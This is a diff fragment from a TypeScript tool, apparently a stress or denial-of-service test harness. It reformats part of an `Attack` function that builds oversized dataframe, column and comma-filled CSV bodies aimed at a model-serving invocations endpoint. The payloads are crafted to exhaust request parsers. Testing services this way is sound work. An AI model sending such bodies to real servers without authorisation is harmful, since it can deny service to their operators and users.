@@ -70,7 +70,11 @@ export const namelessTables: Attack = async (target, scale, signal) => {
   const rows = '[],'.repeat(target.maxRows - 1);
   const split = filled('{"dataframe_split":{"columns":["a"', ',"a"', `],"data":[${rows}[]]}}`, target.maxBodyBytes);
   const columns = filled('{"inputs":{', '"\u00e9":[],', '"a":[]}}', target.maxBodyBytes / 2);
-  const csv = { path: '/v1/models/mixed/invocations', bytes: Buffer.alloc(target.maxBodyBytes, ','), headers: 'content-type: text/csv\r\n' };
+  const csv = {
+    path: '/v1/models/mixed/invocations',
+    bytes: Buffer.alloc(target.maxBodyBytes, ','),
+    headers: 'content-type: text/csv\r\n',
+  };
   const bodies = [split, columns].map((bytes) => ({ path: '/v1/models/mixed/invocations', bytes }));
   return (
     await sendAll(
